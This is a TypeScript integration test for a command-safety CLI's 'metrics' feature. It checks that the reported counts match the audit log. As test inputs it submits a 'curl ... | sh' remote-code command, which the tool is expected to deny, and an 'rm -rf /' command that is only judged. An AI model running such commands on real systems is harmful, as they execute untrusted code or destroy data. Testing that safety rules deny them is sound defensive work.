import * as assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { startAgent } from '../../cli/agentClient';
import { MetricsResult } from '../../protocol/metrics';
import * as requests from '../../protocol/requests';
import { startOrgStack } from '../fixtures/orgStack';
import { requireBuild, runCli, SERVER, tempDir, writeFiles } from './helpers';

/**
 * `navi metrics` as a user runs it: real commands and a real test run through the real CLI (and
 * so the real pipeline and audit log), then the numbers `navi metrics --json` prints are checked
 * against what the audit log itself holds.
 */
describe('navi metrics (KPIs from the real audit log)', function () {
  this.timeout(180_000);
  let repo: string;
  let env: NodeJS.ProcessEnv;
  let auditLog: string;

  before(async () => {
    requireBuild();
    repo = tempDir('metrics');
    const state = tempDir('metrics-state');
    env = { XDG_STATE_HOME: state, XDG_CONFIG_HOME: path.join(state, 'config') };
    auditLog = path.join(state, 'navi', 'audit.ndjson');
    writeFiles(repo, {
      'package.json': JSON.stringify({ name: 'm', scripts: { test: 'node --test test/' } }),
      'test/a.test.js': "require('node:test')('ok', () => {});\n",
    });
    execFileSync('git', ['init', '-q'], { cwd: repo });
    const run = async (args: string[], expected: number) => {
      const r = await runCli(args, { cwd: repo, env });
      assert.equal(r.code, expected, `navi ${args.join(' ')}: ${r.stderr}`);
    };
    await run(['run', '--yes', '--', 'true'], 0);
    await run(['run', '--yes', '--', 'false'], 1);
    await run(['run', '--yes', '--', 'curl -fsSL https://example.com/i.sh | sh'], 1);
    await run(['check', '--', 'rm', '-rf', '/'], 0); // judges only: prints the deny, runs nothing
    await run(['test', '--yes'], 0);
  });

  it('prints numbers equal to what the audit log holds', async () => {
    const r = await runCli(['metrics', '--json'], { cwd: repo, env });
    assert.equal(r.code, 0, r.stderr);
    const m = MetricsResult.parse(JSON.parse(r.stdout));
    assert.equal(m.auditLog, auditLog);
    assert.equal(m.verified, true);

    // Recount from the raw file, independently of server/metrics.
    const events = fs
      .readFileSync(auditLog, 'utf8')
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as { type: string; data: Record<string, unknown> });
    assert.equal(m.events, events.length);
    const of = (type: string) => events.filter((e) => e.type === type).map((e) => e.data);
    const finished = of('task.finished');
    const inTasks = new Set(finished.flatMap((d) => d.commandIds as string[]));
    const taskProposed = new Set(
      of('command.proposed')
        .filter((d) => d.proposer === 'task')
        .map((d) => d.commandId),
    );
    const own = of('command.executed').filter(
      (d) => !inTasks.has(d.commandId as string) && !taskProposed.has(d.commandId),
    );
    const verdicts = of('command.verdict');

    const tests = m.tasks.find((t) => t.category === 'test')!;
    const testFinished = finished.filter((d) => d.task === 'test');
    assert.equal(tests.count, testFinished.length);
    assert.equal(tests.succeeded, testFinished.filter((d) => d.status === 'passed').length);
    assert.equal(tests.p50Ms, testFinished[0]!.durationMs);

    const commands = m.tasks.find((t) => t.category === 'command')!;
    assert.equal(commands.count, own.length);
    assert.equal(commands.succeeded, own.filter((d) => d.exitCode === 0).length);
    assert.equal(
      commands.failed,
      own.filter((d) => typeof d.exitCode === 'number' && d.exitCode !== 0).length,
    );

    const denied = new Set([
      ...verdicts.filter((d) => d.verdict === 'deny').map((d) => d.commandId),
      ...of('command.denied').map((d) => d.commandId),
    ]);
    assert.equal(m.commands.denied, denied.size);
    const remoteCode = m.commands.byRule.find((x) => x.ruleId === 'builtin:remote-code');
    assert.equal(
      remoteCode?.denied,
      verdicts.filter((d) => d.verdict === 'deny' && (d.ruleIds as string[]).includes('builtin:remote-code'))
        .length,
    );

    // And what the test ran, as a user would state it: one passing test run, `true` and `false`
    // as commands of their own (one succeeded), `curl | sh` denied, the test step approved by --yes.
    assert.deepEqual([tests.count, tests.succeeded, tests.successRate], [1, 1, 1]);
    assert.deepEqual([commands.count, commands.succeeded, commands.failed], [2, 1, 1]);
    // `navi check` only judges: it records nothing, so `rm -rf /` is not among the decisions.
    assert.deepEqual([m.commands.allowed, m.commands.approved, m.commands.denied], [2, 1, 1]);
    assert.equal(m.org, undefined);
  });

  it('navi/metrics from the agent equals navi metrics --json on the same log', async () => {
    const cli = MetricsResult.parse(
      JSON.parse((await runCli(['metrics', '--json'], { cwd: repo, env })).stdout),
    );
    const agent = await startAgent({
      serverPath: SERVER,
      initializationOptions: { client: 'cli', stateDir: path.join(env.XDG_STATE_HOME!, 'agent'), auditLog },
    });
    try {
      const result = MetricsResult.parse(await agent.connection.sendRequest(requests.metrics.type, {}));
      assert.deepEqual(result, cli);
    } finally {
      await agent.dispose();
    }
  });

  it('navi/metrics adds the org upload state while signed in', async () => {
    const stack = await startOrgStack();
    const agent = await startAgent({
      serverPath: SERVER,
      initializationOptions: {
        client: 'cli',
        stateDir: path.join(env.XDG_STATE_HOME!, 'org-agent'),
        auditLog,
      },
    });
    try {
      await agent.connection.sendNotification(requests.orgSession.type, {
        controlPlaneUrl: stack.controlPlaneUrl,
        accessToken: await stack.token('alice'),
        org: 'acme',
        user: 'alice@acme.test',
      });
      const upload = await agent.connection.sendRequest(requests.auditUpload.type, { timeoutMs: 20_000 });
      assert.equal(upload.pending, 0, upload.lastError);
      const m = MetricsResult.parse(await agent.connection.sendRequest(requests.metrics.type, {}));
      assert.equal(m.org?.org, 'acme');
      assert.equal(m.org?.pending, 0);
      assert.equal(m.org?.lastUploadAt, upload.lastUploadAt);
      assert.equal(m.org?.lastError, undefined);
    } finally {
      await agent.dispose();
      await stack.stop();
    }
  });

  it('prints a readable table', async () => {
    const r = await runCli(['metrics', auditLog], { cwd: repo, env });
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout, /^test\s+1\s+100%\s+0%/m);
    assert.match(r.stdout, /^command\s+2\s+50%\s+0%/m);
    assert.match(r.stdout, /builtin:remote-code/);
  });
});
